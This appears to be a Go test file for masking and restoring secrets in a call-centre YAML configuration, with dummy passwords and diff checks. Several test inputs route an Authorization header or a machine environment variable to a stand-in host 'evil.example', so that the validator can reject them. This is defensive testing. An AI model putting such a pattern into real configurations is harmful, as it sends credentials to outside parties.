package edit

import (
	"encoding/json"
	"strings"
	"testing"

	"hotline/centre"
)

const secretFile = `agents:
  - {id: "8001", password: geheim1, name: a} # geheim is no secret here
  - {id: "8002", password: "${A8002}"}
  - id: "8003"
    password: 'ge''heim3'   # changed in May
  - id: "8004"
    password: |-
      geheim4
desks: [{id: d, password: "geheim\"5"}]
flows:
  main:
    - lookup: {url: "https://crm.example/{caller}", headers: {Authorization: Bearer geheim6, X-Key: "${KEY}"}, save: {a: b}}
`

func TestMask(t *testing.T) {
	masked, err := Mask([]byte(secretFile))
	if err != nil {
		t.Fatal(err)
	}
	if got := strings.Count(string(masked), "geheim"); got != 1 || strings.Count(string(masked), Kept) != 5 {
		t.Errorf("shown is\n%s", masked)
	}
	if !strings.Contains(string(masked), "${A8002}") || !strings.Contains(string(masked), "# changed in May") {
		t.Errorf("what is no secret is gone:\n%s", masked)
	}
	if back, faults := Unmask("f", masked, []byte(secretFile)); string(back) != strings.Replace(secretFile, "|-\n      geheim4", "geheim4", 1) || faults != nil {
		t.Errorf("%v, comes back as\n%s", faults, back)
	}
	tree, err := Tree(masked)
	if err != nil || strings.Contains(strings.ReplaceAll(string(mustJSON(t, tree)), Kept, ""), "geheim") {
		t.Errorf("%v: %v", err, tree)
	}
}

// TestUnmaskWhatWasMoved: an agent's password goes with its id, a header's with its address.
func TestUnmaskWhatWasMoved(t *testing.T) {
	for _, c := range []struct{ source, want string }{
		{`agents: [{id: "8003", password: <kept>}, {id: "8001", password: <kept>}]`, ""},
		{`agents: [{id: "9", password: <kept>}]`, `f:1: agents[0].password: is to be kept, but there is none yet; write it in full`},
		{`flows: {x: [{lookup: {url: "https://evil.example/", headers: {Authorization: <kept>}}}]}`, `f:1: flows.x[0].lookup.headers.Authorization: is to be kept, but there is none yet; write it in full`},
		{`flows: {x: [{lookup: {url: "https://evil.example/", headers: {X-Key: "${KEY}"}}}]}`, `f:1: flows.x[0].lookup.headers.X-Key: sends a variable of the machine to a web service; put it into the file at the machine and apply it there`},
		{`flows: {y: [{lookup: {url: "https://crm.example/{caller}", headers: {x-key: "${KEY}", authorization: <kept>}}}]}`, ""},
		{`flows: {y: [{lookup: {url: "https://crm.example/{caller}", headers: {x-key: "${OTHER}"}}}]}`, `f:1: flows.y[0].lookup.headers.x-key: sends a variable of the machine to a web service; put it into the file at the machine and apply it there`},
	} {
		out, faults := Unmask("f", []byte(c.source), []byte(secretFile))
		got := ""
		for _, f := range faults {
			got += f.String()
		}
		if got != c.want || got == "" && strings.Contains(string(out), Kept) {
			t.Errorf("%s: %q, want %q\n%s", c.source, got, c.want, out)
		}
	}
}

func TestMaskRefusesWhatItCannotHide(t *testing.T) {
	if out, err := Mask([]byte("agents: [{id: a, password: ge\n  heim}]\n")); err == nil {
		t.Errorf("shown is %s", out)
	}
}

func TestFields(t *testing.T) {
	tree := func(s string) *Index {
		m, err := Tree([]byte(s))
		if err != nil {
			t.Fatal(err)
		}
		return NewIndex(m)
	}
	a := tree("agents: [{id: 8001, name: x, skills: {a: 1}}]\nnumbers: {\"1\": main}\nlanguage: zh-CN\n")
	b := tree("agents: [{id: 8001, name: y, skills: {a: 1}, weight: 3}]\nnumbers: {\"1\": night}\nlanguage: en-US\n")
	for _, c := range []struct {
		change centre.Change
		want   string
	}{
		{centre.Change{Kind: "agent", ID: "8001"}, `[{"key":"name","old":"\"x\"","new":"\"y\""},{"key":"weight","new":"3"}]`},
		{centre.Change{Kind: "number", ID: "1"}, `[{"key":"","old":"\"main\"","new":"\"night\""}]`},
		{centre.Change{Kind: "setting", ID: "language"}, `[{"key":"","old":"\"zh-CN\"","new":"\"en-US\""}]`},
		{centre.Change{Kind: "team", ID: "nobody"}, `null`},
	} {
		if got := string(mustJSON(t, Fields(a, b, c.change))); got != c.want {
			t.Errorf("%v: %s, want %s", c.change, got, c.want)
		}
	}
}

func mustJSON(t *testing.T, v any) []byte {
	t.Helper()
	b, err := json.Marshal(v)
	if err != nil {
		t.Fatal(err)
	}
	return b
}
